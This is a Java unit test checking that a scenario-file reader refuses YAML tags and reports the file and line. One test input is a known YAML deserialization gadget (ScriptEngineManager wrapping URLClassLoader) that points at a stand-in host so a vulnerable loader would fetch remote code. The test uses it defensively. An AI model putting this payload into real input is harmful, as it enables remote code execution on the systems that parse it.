package app.baton.scenario;

import app.baton.engine.RuleFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.charset.StandardCharsets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Scenario files are plain data: YAML tags, which ask a loader to build an object of some type, are refused by line. */
class ScenarioFilesTests {

    private static final String FILE = "test-scenarios/tagged.yaml";

    static RuleFile scenarios(String notes) {
        return new RuleFile(FILE, ("""
                defaults:
                  task: { id: t-1, type: OUTREACH_CALL, status: NEW }
                notes: %s
                scenarios:
                  - description: An outreach call is routed.
                    given: { asOf: "2026-03-09T10:15:00-04:00", carePlan: { id: cp-1, program: GENERAL } }
                    expect: { }
                """.formatted(notes)).getBytes(StandardCharsets.UTF_8));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]",
            "!!str plain text with a global tag",
            "!local just a local tag"})
    void aTaggedNodeIsRefusedNamingTheFileAndLine(String notes) {
        assertThatThrownBy(() -> ScenarioFiles.read(scenarios(notes)))
                .isInstanceOfSatisfying(ScenarioFormatException.class, e -> {
                    assertThat(e.file()).isEqualTo(FILE);
                    assertThat(e.line()).isEqualTo(3);
                    assertThat(e.getMessage()).contains("line 3").contains("tag");
                });
    }

    @Test
    void theSameFileWithoutTheTagIsRead() {
        assertThat(ScenarioFiles.read(scenarios("plain words"))).singleElement()
                .satisfies(s -> assertThat(s.description()).isEqualTo("An outreach call is routed."));
    }
}
